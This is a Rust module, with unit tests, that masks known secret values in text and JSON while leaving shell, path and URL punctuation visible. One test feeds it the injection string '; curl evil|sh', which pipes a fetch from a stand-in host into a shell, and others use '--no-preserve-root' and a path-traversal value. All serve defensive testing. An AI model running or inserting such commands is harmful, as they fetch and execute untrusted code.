//! Values that are known to be secrets: a project gives them to its servers.

use super::harmless::{hidden, is_plain};
use crate::model::Secret;
use serde_json::Value;
use std::borrow::Cow;

/// Shorter values would hide parts of ordinary words.
const LEAST: usize = 4;

/// Values that are hidden wherever they occur, longest first: one may be part of another.
#[derive(Clone, Debug, Default)]
pub(crate) struct KnownSecrets(Vec<Secret>);

impl KnownSecrets {
    /// Returns a set of values. Each line of one is a value too, since words come line by line, and each as it stands in JSON.
    pub(crate) fn new<'v>(values: impl IntoIterator<Item = &'v str>) -> KnownSecrets {
        let mut parts = Vec::new();
        for value in values {
            for part in [value].into_iter().chain(value.lines()).map(str::trim) {
                if part.chars().count() >= LEAST {
                    parts.push(part.to_owned());
                    let quoted = Value::from(part).to_string();
                    parts.push(quoted[1..quoted.len() - 1].to_owned());
                }
            }
        }
        parts.sort_by(|one, other| other.len().cmp(&one.len()).then_with(|| one.cmp(other)));
        parts.dedup();
        KnownSecrets(parts.into_iter().map(Secret::new).collect())
    }

    /// Returns whether there is none.
    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Returns a text without the values. Of a value that has characters with a meaning for a shell, a path or a URL, these stay:
    /// what is hidden of a command is never the command.
    pub(crate) fn hide<'t>(&self, text: &'t str) -> Cow<'t, str> {
        let mut text = Cow::Borrowed(text);
        for secret in self.0.iter().map(Secret::reveal) {
            if text.contains(secret) {
                text = Cow::Owned(text.replace(secret, &veiled(secret)));
            }
        }
        text
    }

    /// Returns a text without the values that was cut already: the beginning of one at its end is hidden too.
    #[cfg(feature = "servers")]
    pub(crate) fn hide_cut(&self, text: &str) -> String {
        let mut text = self.hide(text).into_owned();
        let begun = |text: &str, secret: &str| {
            let ends = secret.char_indices().map(|(at, _)| at).rev();
            ends.filter(|end| *end > 0).find(|end| text.ends_with(&secret[..*end]))
        };
        let longest = self.0.iter().filter_map(|secret| begun(&text, secret.reveal())).max();
        if let Some(longest) = longest {
            let start = text.len() - longest;
            let veiled = veiled(&text[start..]);
            text.truncate(start);
            text.push_str(&veiled);
        }
        text
    }

    /// Takes the values out of all texts of a JSON value, keys included.
    pub(crate) fn hide_all(&self, value: &mut Value) {
        match value {
            Value::String(text) => {
                if let Cow::Owned(hidden) = self.hide(text) {
                    *text = hidden;
                }
            }
            Value::Array(items) => items.iter_mut().for_each(|item| self.hide_all(item)),
            Value::Object(fields) => {
                let old = std::mem::take(fields);
                for (index, (key, mut value)) in old.into_iter().enumerate() {
                    self.hide_all(&mut value);
                    let mut key = self.hide(&key).into_owned();
                    // Two keys that look the same now are still two: none may hide the other.
                    if fields.contains_key(&key) {
                        key += &format!(" ({index})");
                    }
                    fields.insert(key, value);
                }
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
}

/// A value with each word of it hidden, and everything between the words shown. No word begins with a dash, which would make it a
/// flag, and none has two dots in a row.
fn veiled(secret: &str) -> String {
    let mut veiled = String::new();
    let (mut word, mut before) = (0, None);
    let mut rest = secret.chars().peekable();
    while let Some(c) = rest.next() {
        let is_word = match c {
            '-' | '+' => word > 0,
            '.' => word > 0 && before != Some('.') && rest.peek() != Some(&'.'),
            c => !c.is_ascii() || u8::try_from(c).is_ok_and(is_plain),
        };
        before = Some(c);
        if is_word {
            word += 1;
            continue;
        }
        if word > 0 {
            veiled += &hidden(word);
            word = 0;
        }
        veiled.push(c);
    }
    if word > 0 {
        veiled += &hidden(word);
    }
    veiled
}

#[cfg(test)]
impl<'v, const N: usize> From<[&'v str; N]> for KnownSecrets {
    fn from(values: [&'v str; N]) -> KnownSecrets {
        KnownSecrets::new(values)
    }
}

#[cfg(test)]
mod tests {
    use super::KnownSecrets;
    use serde_json::json;

    #[test]
    fn a_value_is_hidden_wherever_it_stands_and_so_is_every_line_of_it() {
        let secrets = KnownSecrets::from(["hunter22", "first-line\nsecond-line\n"]);
        assert_eq!(secrets.hide("argv: --key hunter22"), "argv: --key [hidden: 8 characters]");
        assert_eq!(secrets.hide("at second-line: x"), "at [hidden: 11 characters]: x");
        let whole = "[hidden: 10 characters]\\[hidden: 12 characters]";
        assert_eq!(secrets.hide(r"first-line\nsecond-line"), whole);
    }

    #[test]
    fn a_value_that_a_clone_chose_hides_no_command() {
        let secrets = KnownSecrets::from(["; curl evil|sh", "postgres://me:pw@db/x"]);
        assert_eq!(
            secrets.hide("ls; curl evil|sh"),
            "ls; [hidden: 4 characters] [hidden: 4 characters]|[hidden: 2 characters]"
        );
        let shown = secrets.hide("postgres://me:pw@db/x").into_owned();
        assert_eq!(
            shown.chars().filter(|c| "/:@".contains(*c)).collect::<String>(),
            ":://:::@:/:",
            "{shown}"
        );
        assert!(!shown.contains("me:pw"), "{shown}");
    }

    #[test]
    fn flags_and_ways_out_of_a_folder_stay_to_be_seen() {
        for (value, shown) in [
            ("--no-preserve-root", "--[hidden: 16 characters]"),
            ("../../a.b", "../../[hidden: 3 characters]"),
            ("a..b", "[hidden: 1 character]..[hidden: 1 character]"),
            ("eyJh.eyJz.abc_-", "[hidden: 15 characters]"),
        ] {
            assert_eq!(KnownSecrets::from([value]).hide(value), shown);
        }
    }

    #[test]
    fn short_values_are_words_like_any_other() {
        assert_eq!(KnownSecrets::from(["yes", ""]).hide("yes, it is"), "yes, it is");
        assert_eq!(KnownSecrets::from(["äöü"]).hide("äöü"), "äöü");
    }

    #[cfg(feature = "servers")]
    #[test]
    fn the_beginning_of_a_value_at_a_cut_is_hidden() {
        let secrets = KnownSecrets::from(["hunter22"]);
        assert_eq!(secrets.hide_cut("key: hunte"), "key: [hidden: 5 characters]");
        assert_eq!(secrets.hide_cut("key: none"), "key: none");
    }

    #[test]
    fn json_is_searched_through() {
        let mut value = json!({ "a": ["x hunter22"], "hunter22": 1, "[hidden: 8 characters]": 2 });
        KnownSecrets::from(["hunter22"]).hide_all(&mut value);
        assert_eq!(
            value,
            json!({ "a": ["x [hidden: 8 characters]"], "[hidden: 8 characters]": 1, "[hidden: 8 characters] (2)": 2 })
        );
    }
}
